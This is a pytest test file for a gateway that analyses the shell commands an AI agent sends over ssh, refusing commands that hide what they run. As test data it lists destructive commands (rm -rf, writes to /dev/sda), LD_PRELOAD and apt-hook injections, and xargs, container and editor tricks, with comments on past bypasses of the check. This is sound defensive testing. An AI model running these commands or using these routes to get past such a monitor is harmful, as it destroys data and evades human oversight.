        ("/dev/../dev/sda", "/dev/sda"),
        ("of=//dev/./sda", "of=/dev/sda"),
        ("--target=/a//b/", "--target=/a/b"),
        ("/proc/self/root/*", "/*"),
        ("/proc/thread-self/root", "/"),
        ("of=/proc/1/task/1/root/../dev/sda", "of=/dev/sda"),
        ("/proc/self/rootfs/x", "/proc/self/rootfs/x"),
        ("/srv/proc/self/root/x", "/srv/proc/self/root/x"),
        ("-rf", "-rf"),
        ("a=b", "a=b"),
    ],
)
def test_paths_are_also_given_spelled_plainly(arg: str, plain: str) -> None:
    from lictor_addons.ssh._requests import lexical_path, requests_for_command

    assert lexical_path(arg) == plain
    (request,) = requests_for_command(f"rm {arg}", target="t")
    argv = request.attrs["argv"]
    assert argv == arg if arg == plain else argv == [arg, plain]
    assert request.summary == f"rm {arg}"  # what the agent wrote, in messages and approvals


# A line of a line-inspected shell reaches the target followed by a newline: a final backslash joins
# the next line to it there (`r\` then `m -rf /` is `rm -rf /`), so it cannot be read as a literal.
@pytest.mark.parametrize("line", ["r\\", "ls \\", "echo x; ca\\", "echo ok \\"])
@pytest.mark.parametrize("interactive", [True, False])
def test_a_shell_line_ending_in_a_backslash_is_incomplete(line: str, interactive: bool) -> None:
    with pytest.raises(ShellParseError, match="line continuation"):
        analyse(line, interactive=interactive, line=True)
    assert analyse(line + "\\", interactive=interactive, line=True).invocations  # an escaped backslash is text
    assert analyse(line).invocations  # as an exec command (bash -c), the backslash is a literal


def test_shell_line_requests_refuse_a_final_backslash_and_overlong_lines() -> None:
    from lictor_addons.ssh._requests import requests_for_command

    (req,) = requests_for_command("r\\", target="t", channel="shell_line", line=True)
    assert "line continuation" in req.attrs["parse_error"]
    (req,) = requests_for_command("echo " + "A" * 4100, target="t", channel="shell_line", max_bytes=4000)
    assert "longer than 4000 bytes" in req.attrs["parse_error"]
    for char in "\x03\x04\x1a\x1c":  # the target's terminal would take them as a signal or an end of input
        (req,) = requests_for_command(f"echo a{char}b", target="t", channel="shell_line", line=True, max_bytes=4000)
        assert "signal or an end of input" in req.attrs["parse_error"]


# --------------------------------------------------------------------------------------------------
# An argv run without a shell, its stdin the agent's stream (kubectl exec -i)
# --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("argv", "reader"),
    [
        (["sh"], "sh"),
        (["/bin/bash", "-s", "arg"], "bash"),
        (["sh", "-"], "sh"),
        (["sh", "/dev/stdin"], "sh"),
        (["env", "sh"], "sh"),
        (["/usr/bin/env", "-i", "LANG=C", "sh"], "sh"),
        (["nice", "-n", "5", "sh"], "sh"),
        (["timeout", "60", "sh"], "sh"),
        (["nohup", "sh"], "sh"),
        (["stdbuf", "-oL", "sh"], "sh"),
        (["setsid", "sh"], "sh"),
        (["command", "sh"], "sh"),
        (["exec", "sh"], "sh"),
        (["busybox", "sh"], "sh"),
        (["busybox", "env", "sh"], "sh"),
        (["sudo", "-u", "app", "sh"], "sh"),
        (["unshare", "sh"], "sh"),
        (["unshare"], "unshare"),  # no program: it starts $SHELL
        (["strace", "-o", "/dev/null", "sh"], "sh"),
        (["ssh-agent", "sh"], "sh"),
        (["nsenter", "-t", "1", "-a"], "nsenter"),
        # stdin is data
        (["tar", "-xmf", "-", "-C", "/tmp"], None),
        (["tar", "xf", "-"], None),
        (["cat"], None),
        (["tee", "/tmp/f"], None),
        (["gzip", "-d"], None),
        (["sh", "-c", "cat > /tmp/f"], None),
        (["sh", "job.sh"], None),
        (["python3", "job.py"], None),
        (["python3", "-c", "import sys; print(sys.stdin.read())"], None),
        (["awk", "{print $1}"], None),
        (["xargs", "rm"], None),
        (["rm *"], None),  # one word: a program of that name, nothing expands without a shell
    ],
)
def test_stdin_shell_finds_the_shell_behind_wrappers(argv: list[str], reader: str | None) -> None:
    assert stdin_shell(argv) == reader


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["python3", "-"], "python3 would read its program from stdin"),
        (["python3"], "python3 would read its program from stdin"),
        (["nice", "perl"], "perl would read its program from stdin"),
        (["ruby"], "ruby would read its program from stdin"),
        (["node"], "node would read its program from stdin"),
        (["php"], "php would read its program from stdin"),
        (["lua"], "lua would read its program from stdin"),
        (["tclsh"], "tclsh would read its program from stdin"),
        (["awk", "-f", "-"], "awk would read its program from stdin"),
        (["awk", "-f", "/dev/stdin"], "awk would read its program from stdin"),
        (["psql", "-U", "app"], "psql would read its program from stdin"),
        (["xargs", "sh"], "input of xargs"),
        (["sh", "-c", "sh"], "sh would read its program from stdin"),
        (["sh", "-c", "cat | sh"], "piped into sh"),
        (["bash", "-c", "exec python3"], "python3 would read its program from stdin"),
        (["fish"], "fish syntax is not analysed"),
        (["sh", "a\x00b"], "NUL"),
        # programs that run the lines they read as commands
        (["awk", "{system($0)}"], "awk's system() or pipes would run text it reads"),
        (["gawk", '{print | "sh"}'], "awk's system() or pipes would run text it reads"),
        (["awk", "--source", "{system($0)}"], "awk's system() or pipes would run text it reads"),
        (["unshare", "awk", '{ "sh -c " $0 | getline r }'], "awk's system() or pipes would run text it reads"),
        (["sed", "e"], "sed's e command would run text it reads"),
        (["sed", "-n", "s/^/rm /e"], "sed's e command would run text it reads"),
        (["sed", "-e", "p", "-e", "1e"], "sed's e command would run text it reads"),
        (["sed", "-l", "5", "e"], "sed's e command would run text it reads"),  # 5 is -l's value, e the script
        (["awk", "-e", "{system($0)}"], "awk's system() or pipes would run text it reads"),
        (["gawk", '{s = "system"; @s($0)}'], "awk's system() or pipes would run text it reads"),
    ],
)
def test_stdin_shell_refuses_program_text_it_cannot_check(argv: list[str], message: str) -> None:
    with pytest.raises(ShellParseError, match=re.escape(message)):
        stdin_shell(argv)


@pytest.mark.parametrize(
    "command",
    [
        "unset PROMPT_COMMAND",
        "unset -v PS1",
        "unset x PS2",
        "f() { unset PS0; }",
        "read() { :; }",
        "function read { return 1; }",
        "enable -n read",
        "enable -pn read",
        "trap true DEBUG",
        "trap -- 'echo' debug",
        "trap true $sig",
        "set +m",
        "set -e +m",
        "set +o monitor",
        "shopt -u -o monitor",
        "exec </dev/null",
        "exec 0<file",
        "exec 0< <(printf 'rm -rf /x\\n')",
        "exec <&3",
        "exec 0<&-",
        "{ exec; } <f",
    ],
)
def test_a_shell_line_may_not_undo_how_the_line_shell_reads_its_lines(command: str) -> None:
    # The gateway's line shell discards what is left on its terminal before each prompt (PROMPT_COMMAND
    # with `read`) and marks the prompt (PS1); its commands come from standard input.
    analyse(command)  # an exec command string: no such shell
    for interactive in (True, False):
        refused(command, "line shell", interactive=interactive, line=True)


def test_a_shell_line_may_still_read_print_trap_and_redirect() -> None:
    for command in [
        "read -r x < f",
        "declare -p PS1",
        "echo $PROMPT_COMMAND",
        "unset -f read",
        "trap 'echo bye' EXIT",
        "trap - DEBUG",
        "set -m",
        "set +e",
        "exec 3<f",
        "exec 2>/dev/null",
        "exec cat < f",
        "enable -p",
    ]:
        analyse(command, interactive=True, line=True)


@pytest.mark.parametrize(
    "command",
    [
        "(head -c 5 <&3 & sleep 1) 3<&0",
        "{ head -c 5 & }",
        "f() { head -c 5 & }",
        "echo $(head -c 5 &)",
        "bash -c 'head -c 5 <&3 &' 3<&0",
        "(coproc head -c 5)",
        "setsid head -c 5",
        "setsid -f head -c 5",
        "setsid --fork head -c 5",
    ],
)
def test_a_shell_line_may_not_leave_a_reader_of_the_terminal_beside_the_shell(command: str) -> None:
    # Only a job the interactive shell starts itself gets a process group the terminal stops when it reads.
    analyse(command)  # an exec command string: no line shell
    for interactive in (True, False):
        refused(command, "line shell", interactive=interactive, line=True)


def test_a_shell_line_may_start_jobs_at_its_top() -> None:
    for command in ["sleep 1 &", "sleep 1 & echo started", "head -c 5 f | sort &", "coproc cat", "setsid -w ls"]:
        analyse(command, interactive=True, line=True)


# --------------------------------------------------------------------------------------------------
# Programs run in a container or a pod
# --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("docker exec c rm -rf /srv", ("rm", "-rf /srv", "docker exec")),
        ("docker container exec -u root -w /tmp c rm x", ("rm", "x", "docker exec")),
        ("docker -H unix:///run/docker.sock exec c rm x", ("rm", "x", "docker exec")),
        ("podman exec -t c rm x", ("rm", "x", "podman exec")),
        ("nerdctl -n k8s.io exec c rm x", ("rm", "x", "nerdctl exec")),
        ("docker run --rm -v /:/host img rm -rf /host", ("rm", "-rf /host", "docker run")),
        ("docker run --entrypoint /bin/rm img -rf /srv", ("rm", "-rf /srv", "docker run")),
        ("docker create img rm x", ("rm", "x", "docker create")),
        ("docker run --health-cmd 'rm x' img", ("rm", "x", "docker run --health-cmd")),
        ("docker -H ssh://ops@db:2222 ps", ("ssh", "-p 2222 -- ops@db docker system dial-stdio", "docker -H")),
        ("kubectl exec pod -- rm -rf /srv", ("rm", "-rf /srv", "kubectl exec")),
        ("kubectl -n prod exec -c app pod -n prod -- rm x", ("rm", "x", "kubectl exec")),
        ("kubectl exec -n -- pod -- rm x", ("rm", "x", "kubectl exec")),  # the first -- is the namespace
        ("kubectl exec pod rm x", ("rm", "x", "kubectl exec")),  # the form older kubectl still runs
        ("kubectl debug pod --image=busybox -- rm x", ("rm", "x", "kubectl debug")),
        ("kubectl run x --image=busybox --command -- rm x", ("rm", "x", "kubectl run")),
        ("crictl exec c rm x", ("rm", "x", "crictl exec")),
        ("crictl -r unix:///run/containerd.sock exec -s c rm x", ("rm", "x", "crictl exec")),
        ("sudo docker exec c sh -c 'rm x'", ("rm", "x", "sh -c")),
        ("docker compose exec web rm x", ("rm", "x", "docker compose exec")),
        ("docker compose -f c.yml -p app exec -T -u root -w /app web rm x", ("rm", "x", "docker compose exec")),
        ("podman compose exec --index 2 web rm x", ("rm", "x", "podman compose exec")),
        ("docker-compose exec web rm x", ("rm", "x", "docker-compose exec")),
        ("docker-compose -f c.yml exec -T web rm x", ("rm", "x", "docker-compose exec")),
    ],
)
def test_a_program_run_in_a_container_or_a_pod_is_reported(command: str, expected: tuple[str, str, str | None]) -> None:
    # Only docker, kubectl or crictl was reported: a rule allowing them let any program run in the container.
    assert expected in calls(command)


@pytest.mark.parametrize(
    ("command", "why"),
    [
        ("docker exec -i c sh", "sh would read its program from the session's input"),
        ("docker exec -it c bash -s", "bash would read its program from the session's input"),
        ("podman exec -i c python3", "python3 would read its program from the session's input"),
        ("docker run -i busybox", "docker would read its program from the session's input"),  # the image's command
        ("docker run -it --entrypoint sh img", "sh would read its program from the session's input"),
        ("docker run -a stdin img sh", "sh would read its program from the session's input"),
        ("docker start -ai c", "would read its program from the session's input"),
        ("docker attach c", "would read its program from the session's input"),
        ("docker exec -e LD_PRELOAD=/tmp/x.so c ls", "LD_PRELOAD can change which program runs"),
        ("docker exec --env-file vars c ls", "--env-file"),
        ("docker exec $c rm x", "only known at run time"),
        ("docker compose run web rm x", "compose run"),
        ("docker-compose run web rm x", "compose run"),
        ("docker-compose exec web sh", "sh would read its program from the session's input"),
        ("docker-compose -f - up", "would read its program from the session's input"),
        ("echo exec web rm x | xargs docker-compose", "input of xargs"),
        ("docker compose exec web sh", "sh would read its program from the session's input"),
        ("docker compose exec -e LD_PRELOAD=/tmp/x.so web ls", "LD_PRELOAD can change which program runs"),
        ("docker compose exec --env-file vars web ls", "unknown option --env-file"),
        ("docker compose exec web $c", "comes from an expansion"),
        ("echo ls | xargs docker compose exec web", "input of xargs"),
        ("docker compose -f - up", "would read its program from the session's input"),
        ("echo c | xargs docker exec", "input of xargs"),
        ("kubectl exec -i pod -- sh", "sh would read its program from the session's input"),
        ("kubectl exec pod -it -- sh", "sh would read its program from the session's input"),
        ("kubectl attach -i pod", "would read its program from the session's input"),
        ("kubectl debug node/n -it --image=busybox", "would read its program from the session's input"),
        ("kubectl run x -i --image=busybox", "would read its program from the session's input"),
        ("kubectl run x --image=busybox --overrides={} ", "--overrides"),
        ("kubectl debug pod --image=busybox --env=BASH_ENV=/tmp/x -- sh -c ls", "BASH_ENV can change"),
        ("kubectl create job j --image=busybox -- rm x", "kubectl create"),
        ("crictl exec -it c sh", "sh would read its program from the session's input"),
        ("crictl exec --name web rm x", "unknown option --name"),
    ],
)
def test_a_container_program_reading_the_session_or_hidden_from_the_analysis_is_refused(command: str, why: str) -> None:
    refused(command, re.escape(why))


def test_a_compose_subcommand_xargs_would_append_is_refused() -> None:
    # `echo exec web rm x | xargs docker compose` ran rm in the container, reported as docker alone.
    for command in ["echo exec web rm x | xargs docker compose", "echo exec web rm x | xargs docker compose -f c.yml",
                    "echo run web rm | xargs podman compose --project-name app --dry-run"]:  # fmt: skip
        refused(command, "compose subcommand would come from the input of xargs")
    assert names("echo web | xargs docker compose logs") == ["echo", "xargs", "docker"]
    assert names("echo web | xargs docker compose -f c.yml restart") == ["echo", "xargs", "docker"]


def test_container_tools_that_run_nothing_new_are_left_to_the_rules() -> None:
    for command in ["docker ps -a", "docker run -d nginx", "docker exec c", "docker attach --no-stdin c",
                    "docker start c", "docker compose ps", "docker ps -q | xargs docker rm", "kubectl get pods -A",
                    "kubectl attach pod", "kubectl logs -f pod", "crictl ps", "docker exec -i c cat < /dev/null"]:  # fmt: skip
        assert "docker" in names(command) or "kubectl" in names(command) or "crictl" in names(command)
        assert not {"sh", "rm"} & set(names(command))
    assert names("docker-compose ps") == names("docker-compose logs -f web") == ["docker-compose"]


def test_stdin_shell_finds_a_shell_run_in_a_container() -> None:
    # like `ssh HOST`: the lines of the container's shell are checked one by one
    assert stdin_shell(["docker", "exec", "-i", "c", "sh"]) == "sh"
    assert stdin_shell(["kubectl", "exec", "-i", "pod", "--", "sh"]) == "sh"
    assert stdin_shell(["docker", "exec", "c", "cat"]) is None
    assert stdin_shell(["docker", "compose", "exec", "-T", "web", "sh"]) == "sh"
    with pytest.raises(ShellParseError, match="would read its program from stdin"):
        stdin_shell(["docker", "run", "-i", "busybox"])


def test_machinectl_shell_reports_its_program_and_refuses_a_shell_reading_the_session() -> None:
    # `machinectl shell root@.host /bin/rm -rf /srv` ran rm as root on the host, reported as machinectl alone.
    assert ("rm", "-rf /srv", "machinectl shell") in calls("machinectl shell root@.host /bin/rm -rf /srv")
    assert ("rm", "x", "machinectl shell") in calls("machinectl -q shell --uid=0 web rm x")
    for command in ["machinectl shell", "machinectl shell root@.host", "machinectl login web"]:
        refused(command, "machinectl would read its program from the session's input")
    refused("machinectl shell -E LD_PRELOAD=/tmp/x.so .host /bin/ls", "LD_PRELOAD can change which program runs")
    assert names("machinectl list") == ["machinectl"]
    assert names("machinectl shell .host /bin/ls < /dev/null")[-1] == "ls"
    assert "ssh" in names("machinectl -H h status")


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("apt-get -o APT::Update::Pre-Invoke::=touch update", ("touch", "", "apt-get -o APT::Update::Pre-Invoke")),
        ("apt-get -o 'DPkg::Pre-Invoke::=rm -rf /srv' install x", ("rm", "-rf /srv", "apt-get -o DPkg::Pre-Invoke")),
        ("apt -oDPkg::Post-Invoke::=rm\\ x install y", ("rm", "x", "apt -o DPkg::Post-Invoke")),
        ("apt-get -yqo apt::update::post-invoke-success::=rm\\ x update", ("rm", "x", "apt-get -o apt::update::post-invoke-success")),
        ("apt-get install y --option=Binary::apt-get::DPkg::Pre-Invoke::=rm\\ x", ("rm", "x", "apt-get -o Binary::apt-get::DPkg::Pre-Invoke")),
        ("apt-get --option DPkg::Pre-Install-Pkgs::='rm x' install y", ("rm", "x", "apt-get -o DPkg::Pre-Install-Pkgs")),
        ("apt-get -o Dpkg::Options::=--pre-invoke='rm x' install y", ("rm", "x", "dpkg --pre-invoke")),
        ("dpkg --pre-invoke='rm x' -i x.deb", ("rm", "x", "dpkg --pre-invoke")),
        ("dpkg -i x.deb --post-invoke 'rm x'", ("rm", "x", "dpkg --post-invoke")),
        ("dpkg --status-logger='rm x' -i x.deb", ("rm", "x", "dpkg --status-logger")),
    ],
)  # fmt: skip
def test_commands_apt_and_dpkg_run_from_their_options_are_reported(
    command: str, expected: tuple[str, str, str | None]
) -> None:
    # Only apt-get or dpkg was reported: a rule allowing `apt-get update` ran any hook command given with -o.
    assert expected in calls(command)


@pytest.mark.parametrize(
    ("command", "why"),
    [
        ("apt-get -o DPkg::Pre-Invoke::=sh install x", "sh would read its program from the session's input"),
        ("apt-get -o DPkg::Pre-Install-Pkgs::=sh install x", "piped into sh"),  # it reads the list of packages
        ("dpkg --status-logger=sh -i x.deb", "piped into sh"),
        ("apt-get -o Dpkg::Options::=--pre-invoke -o Dpkg::Options::=rm install x", "in the same word"),
        ("apt-get -o Dir::Bin::dpkg=/tmp/x install y", "makes it run another program"),
        ("apt-get -o Dir=/tmp/root install y", "makes it run another program"),
        ("apt-get -o RootDir=/tmp/root install y", "makes it run another program"),
        ("apt-get -o Acquire::http::Proxy-Auto-Detect=/tmp/x update", "makes it run another program"),
        ("apt-get -o APT::Key::GPGVCommand=/tmp/x update", "makes it run another program"),
        ("apt-get -c /tmp/apt.conf update", "reads configuration"),
        ("apt-get --config-file=/tmp/apt.conf update", "reads configuration"),
        ("apt-get -o \"$x\" update", "only known at run time"),
        ("apt-get -o $x update", "only known at run time"),
        ("echo x | xargs apt-get install", "could be -o"),
        ("APT_CONFIG=/tmp/apt.conf apt-get update", "APT_CONFIG"),
    ],
)  # fmt: skip
def test_apt_and_dpkg_options_hiding_what_runs_are_refused(command: str, why: str) -> None:
    refused(command, re.escape(why))


def test_apt_and_dpkg_with_ordinary_options_are_left_to_the_rules() -> None:
    for command in ["apt-get update", "apt-get install -y nginx", "apt-get -t bookworm-backports install x",
                    "apt-get install --only-upgrade x", "apt-get -o Dpkg::Options::=--force-confold install x",
                    "apt-get -o Acquire::Retries=3 update", "apt-cache policy nginx", "dpkg -l", "dpkg -i x.deb"]:  # fmt: skip
        assert names(command) == [command.split()[0]]


@pytest.mark.parametrize(
    "command",
    [
        "rsync --server --daemon --config=/tmp/r.conf .",
        "rsync --server --daemon --config /tmp/r.conf .",
        "rsync --config=/tmp/r.conf --server --daemon .",  # what --rsync-path='rsync --config=FILE' host::m runs
        "rsync --daemon --dparam='pre-xfer exec=rm x'",
        "rsync --daemon -M 'post-xfer exec=rm x'",
        "rsync --daemon -vM'early exec=rm x'",
        "rsync --daemon $opts",
    ],
)
def test_an_rsync_daemon_configured_on_its_command_line_is_refused(command: str) -> None:
    # Reported as rsync alone, the daemon ran the pre-xfer exec command of a configuration the agent chose.
    refused(command, "--config|only known at run time")


def test_an_rsync_daemon_with_its_default_configuration_is_left_to_the_rules() -> None:
    assert names("rsync --server --daemon .") == ["rsync"]
    assert names("rsync --daemon --no-detach --port=8730") == ["rsync"]
    assert names("rsync --server --daemon -e evil .") == ["rsync", "evil"]


def test_openssl_without_a_command_reads_its_commands_from_the_session() -> None:
    # openssl 1.1 with no argument is a prompt running the commands it reads (`engine` loads any library).
    refused("openssl", "openssl would read its program from the session's input")
    refused("echo version | openssl", "piped into openssl")
    with pytest.raises(ShellParseError, match="openssl would read its program from stdin"):
        stdin_shell(["openssl"])
    assert names("openssl < /dev/null") == ["openssl"]
    for command in ["openssl version", "openssl x509 -noout -text -in cert.pem", "openssl s_client -connect h:443"]:
        assert names(command) == ["openssl"]


@pytest.mark.parametrize(
    "command",
    [
        "printf '%s\\n' ';' 'rm -rf /srv' | xargs ssh host ls",  # ssh joins its words into the remote command
        "echo '; rm x' | xargs watch ls",  # and so does watch
        "echo -exec rm {} + | xargs find /srv",
        "echo --to-command=rm | xargs tar -xf a.tar",
        "echo --checkpoint-action=exec=rm | xargs tar -cf a.tar",
        "echo -c 'rm x' | xargs flock /tmp/l",
        "echo rm x | xargs busybox",
        "echo e | xargs sed",
        "echo -e e | xargs sed -n p",
        "echo --expression=1e f | xargs sed -i s/a/b/",
        "echo '{system($0)}' | xargs awk",
        "echo +!rm | xargs less",
        "echo -P rm | xargs man",
        "echo --filter=rm | xargs split",
        "echo -e rm | xargs rsync a",
        "echo -S rm | xargs scp a",
        "echo -oProxyCommand=rm | xargs ssh -n host",
        "echo EXEC:rm | xargs socat -",
        "echo -e sh | xargs nc -l 8080",
        "echo --eval=x | xargs make",
        "echo -c core.pager=rm log | xargs git",
        "echo config core.pager rm | xargs git",
        "echo -TT rm | xargs zip a.zip",
        "echo netns exec n rm x | xargs ip",
        "echo exec c rm x | xargs crictl",
        "echo new -d rm | xargs tmux",
        "echo -c rm | xargs script -q",
        "echo db .shell rm | xargs sqlite3",
    ],
)
def test_words_xargs_appends_to_a_program_decided_on_its_words_are_refused(command: str) -> None:
    # The handler saw only the words given: xargs appended an option, a primary or code that ran rm, unseen.
    refused(command, "xargs would append")


def test_xargs_may_append_file_names_after_a_final_double_dash() -> None:
    for command in ["find . -name '*.log' -print0 | xargs -0 tar czf logs.tgz --", "ls | xargs tar -C /srv -cf a.tar --",
                    "ls | xargs rsync -av --delete --", "ls | xargs sort -T /tmp -- ", "ls | xargs sed -n -e 1p --",
                    "grep -l foo -r . | xargs sed -i 's/foo/bar/g' --", "ls | xargs rsync -a -- ", "ls | xargs less --",
                    "ls | xargs rm", "ls | xargs grep -l foo", "ls | xargs wc -l"]:  # fmt: skip
        analyse(command)
    refused("ls | xargs sed --", "xargs would append")  # the script itself would come from the input


@pytest.mark.parametrize(
    "command",
    ["echo --to-command=rm | xargs tar xf --", "echo --to-command=rm | xargs tar -xf a.tar -C --",
     "echo --to-command=rm | xargs tar cfT a.tar --", "echo -e rm | xargs rsync -a --exclude --",
     "echo -S rm | xargs scp -F --", "echo --filter=rm | xargs split -b --", "echo -P rm | xargs man -L --",
     "echo +!rm | xargs less -p --", "echo -e 1e\\ rm | xargs sed -f --", "echo -e 1e\\ rm | xargs sed -l --",
     "echo --compress-program=rm | xargs sort -T --", "echo --pre=rm | xargs rg -e --",
     "echo --use-askpass=rm | xargs wget -O --", "echo --diff-program=rm | xargs sdiff -o --",
     'echo --to-command=rm | xargs tar -xf a.tar "$o" --'],
)  # fmt: skip
def test_a_final_double_dash_that_is_an_options_value_lets_xargs_append_options(command: str) -> None:
    # The final -- was taken for the end of the options, but it was the value of -C, of tar's f, of -T...: what
    # xargs appended after it were options again, and --to-command=rm ran rm unseen.
    refused(command, "xargs would append")


def test_xargs_may_append_paths_to_git_subcommands_that_take_them_after_a_final_double_dash() -> None:
    # git add/rm/checkout/restore/diff/log/ls-files take only paths after --: these common forms were refused.
    for command in ["git ls-files -m | xargs git add --", "git ls-files -z | xargs -0 git rm --cached --",
                    "ls | xargs git -C /srv/app checkout HEAD --", "ls | xargs git diff --stat --",
                    "ls | xargs git -c color.ui=never log --oneline --"]:  # fmt: skip
        assert names(command)[-1] == "git"
    for command in ["echo -e | xargs git add", "echo -c core.pager=rm log | xargs git", "echo log | xargs git --",
                    "echo -e | xargs git add --chmod --", "echo -e | xargs git commit -m x --",
                    "echo x | xargs git -C -- add", "echo x | xargs git -C dir --",
                    "echo --ext-diff | xargs git diff -S --", "echo x | xargs git difftool --"]:  # fmt: skip
        refused(command, "xargs would append")


def test_xargs_may_append_package_names_to_apt_after_a_final_double_dash() -> None:
    # apt's own command line parser takes only package names after --: these were refused with any word appended.
    for command in ["cat pkgs.txt | xargs apt-get install -y --", "cat pkgs.txt | xargs sudo apt-get install -y --",
                    "cat pkgs | xargs apt install --no-install-recommends --", "cat pkgs | xargs apt-mark hold --",
                    "cat pkgs | xargs apt-cache policy --"]:  # fmt: skip
        assert "apt" in names(command)[-1]
    for command in ["echo -o APT::Update::Pre-Invoke::=rm | xargs apt-get update",
                    "echo -o x | xargs apt-get install -y", "echo x | xargs apt-get install -t --",
                    "echo x | xargs apt-get -o --", "echo x | xargs apt-cache -p --",
                    "echo x | xargs aptitude install --"]:  # fmt: skip
        refused(command, "one could be -o")


def test_xargs_may_append_operands_to_sort_rg_and_wget_after_a_final_double_dash() -> None:
    # After --, sort, diff3, sdiff, rg and wget take only files or URLs: what xargs appends cannot be
    # --compress-program, --pre or --use-askpass there, so these common forms are reported as before.
    assert names("cat files | xargs sort -u --") == ["cat", "xargs", "sort"]
    assert names("find . -name '*.log' | xargs rg -l ERROR --") == ["find", "xargs", "rg"]
    assert names("cat urls.txt | xargs -n1 wget -q --") == ["cat", "xargs", "wget"]
    assert names("cat pairs | xargs -n3 diff3 --") == ["cat", "xargs", "diff3"]
    assert ("rm", "", "sort --compress-program") in calls("ls | xargs sort --compress-program=rm --")
    assert ("rm", "", "rg --pre") in calls("ls | xargs rg --pre rm foo --")
    for command in ["echo --compress-program=rm | xargs sort", "echo --pre=rm | xargs rg foo",
                    "echo --use-askpass=rm | xargs wget", "echo -- --pre=rm | xargs rg foo -- x",
                    "echo --diff-program=rm | xargs sdiff"]:  # fmt: skip
        refused(command, "xargs would append")


@pytest.mark.parametrize(
    "command",
    ["vim.basic f", "vim.tiny f", "editor f", "sensible-editor f", "vim.nox f", "nvi f", "mcedit f", "emacs-nox f",
     "micro f", "joe f", "sudo vim.basic /etc/hosts"],
)  # fmt: skip
def test_editors_under_the_names_distributions_install_read_the_session(command: str) -> None:
    # `vim.basic` (Debian's vim, also run as `editor`) was taken for a program whose input is data: its `:!`
    # commands from the session's input ran unseen.
    refused(command, "would read its program from the session's input")
    refused(command.replace(" f", " f < /dev/null"), "keystrokes|terminal", interactive=True)


@pytest.mark.parametrize(
    "command",
    [
        "vim -es -c '!rm x' -c q f < /dev/null",
        "vim -es +'!rm x' f < /dev/null",
        "vim.basic --cmd 'call system(\"rm x\")' -es f < /dev/null",
        "ex -c '!rm x' f < /dev/null",
        "gdb -batch -ex 'shell rm x' < /dev/null",
        "gdb -batch --ex='shell rm x' < /dev/null",
        "gdb -batch -eva 'shell rm x' < /dev/null",  # gdb takes an abbreviated -eval-command
        "gdb -batch -iex 'shell rm x' < /dev/null",
        "emacs --batch --eval '(shell-command \"rm x\")' < /dev/null",
        "emacs -batch -f my-function < /dev/null",
        "lftp -c '!rm x' < /dev/null",
        "lftp -e '!rm x' host < /dev/null",
        "mutt -e 'source \"rm x|\"' < /dev/null",
    ],
)
def test_a_command_given_to_an_editor_or_a_debugger_in_its_options_is_refused(command: str) -> None:
    # With their input empty they were left to the rules as vim or gdb, and ran the shell command of -c or -ex.
    refused(command, "gives it a command to run")


def test_editors_and_debuggers_with_files_and_positions_are_left_to_the_rules() -> None:
    for command in ["vim -es +12 f < /dev/null", "vim -es +/foo f < /dev/null", "gdb -batch -x cmds.gdb prog < /dev/null",
                    "emacs --batch --file x < /dev/null", "lftp host < /dev/null"]:  # fmt: skip
        assert len(names(command)) == 1


def test_strace_output_piped_into_a_command_is_reported() -> None:
    # strace -o '|CMD' runs CMD with sh -c: it was reported as strace and its traced program only.
    for command in ["strace -o '|rm x' true", "strace -o '!rm x' true", "strace --output='|rm x' true",
                    "strace -fo'|rm x' true"]:  # fmt: skip
        assert ("rm", "x", "strace -o") in calls(command)
    refused("strace -o '|sh' true", "piped into sh")
    refused('strace -o "$f" true', "only known at run time")
    assert names("strace -o /tmp/trace true") == ["strace", "true"]


def test_the_command_tcpdump_runs_on_its_capture_files_is_reported() -> None:
    # tcpdump -z CMD runs CMD on each file it closes (-C, -G): it was reported as tcpdump alone.
    assert ("rm", "", "tcpdump -z") in calls("tcpdump -G 1 -W 1 -w x.pcap -z rm")
    assert ("x", "", "tcpdump -z") in calls("tcpdump -nz/tmp/x -w f -C 1")
    refused('tcpdump -w f -C 1 -z "$c"', "comes from an expansion")
    refused("tcpdump -w f -C 1 $opts", "only known at run time")
    assert names("tcpdump -iz -nn port 80") == ["tcpdump"]  # z is the interface's name
    refused("echo -z rm | xargs tcpdump -w f -C 1", "xargs would append")


def test_the_credential_command_of_wget_is_reported() -> None:
    # wget --use-askpass=CMD runs CMD: it was reported as wget alone.
    assert ("x", "", "wget --use-askpass") in calls("wget --use-askpass=/tmp/x http://h/")
    assert ("x", "", "wget --use-askpass") in calls("wget --use-a /tmp/x http://h/")
    for command in ["wget -e use_askpass=/tmp/x http://h/", "wget -qe 'use-askpass = /tmp/x' http://h/",
                    "wget --execute=useaskpass=/tmp/x http://h/", "wget --config=/tmp/rc http://h/",
                    "WGETRC=/tmp/rc wget http://h/", "WGET_ASKPASS=/tmp/x wget http://h/",
                    "echo --use-askpass=/tmp/x | xargs wget http://h/"]:  # fmt: skip
        refused(command)
    for command in ["wget -O out.html http://h/", "wget -e robots=off -r http://h/", "wget -q -O- http://h/"]:
        assert names(command) == ["wget"]


def test_the_preprocessor_ripgrep_runs_on_each_file_is_reported() -> None:
    # rg --pre CMD runs CMD on every file it searches: it was reported as rg alone.
    assert ("x", "", "rg --pre") in calls("rg --pre /tmp/x foo .")
    assert ("rm", "", "rg --pre") in calls("rg -i --pre=rm foo .")
    for command in ["RIPGREP_CONFIG_PATH=/tmp/rc rg foo", "echo --pre=rm | xargs rg foo", 'rg --pre "$p" foo']:
        refused(command)
    assert names("rg -n --pre-glob '*.gz' foo .") == ["rg"]


@pytest.mark.parametrize(
    "command",
    ["run0 rm x", "run0", "schroot -c buster -- rm x", "dchroot -c buster rm x", "lxc exec c -- rm x", "lxc shell c",
     "incus exec c -- sh", "incus console vm", "echo exec c rm | xargs lxc"],
)  # fmt: skip
def test_more_programs_that_run_a_command_they_are_given_are_refused(command: str) -> None:
    # run0 (systemd's sudo), schroot and LXD/Incus ran the program named after them, reported as themselves.
    refused(command, "run|xargs")


def test_lxd_clients_that_run_nothing_are_left_to_the_rules() -> None:
    assert names("lxc list") == ["lxc"]
    assert names("incus info c") == ["incus"]


@pytest.mark.parametrize(
    "command",
    [
        "git config set core.pager 'rm x'",  # git 2.46's syntax
        "git config -f .git/config core.pager 'rm x'",
        "git config --file .git/config core.pager 'rm x'",
        "git config --type bool core.pager x",
        'git config "$k" v',
        "git instaweb --httpd='rm x'",
        "git daemon --access-hook='rm x'",
        "git send-email --sendmail-cmd='rm x' p.patch",
